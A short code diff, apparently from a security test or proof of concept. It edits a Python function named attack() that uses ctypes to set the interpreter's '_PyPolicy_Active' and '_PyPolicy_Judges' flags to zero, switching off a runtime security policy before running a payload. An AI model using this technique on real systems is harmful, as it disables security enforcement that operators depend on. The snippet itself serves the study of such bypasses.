@@ -11,6 +11,6 @@ def attack():
     import ctypes
     import _imp
     if _imp.has_policy():
-        switch = ctypes.c_int.in_dll(ctypes.pythonapi, "_PyPolicy_Active")
-        switch.value = 0
+        for switch in "_PyPolicy_Active", "_PyPolicy_Judges":
+            ctypes.c_int.in_dll(ctypes.pythonapi, switch).value = 0
     payload.act()
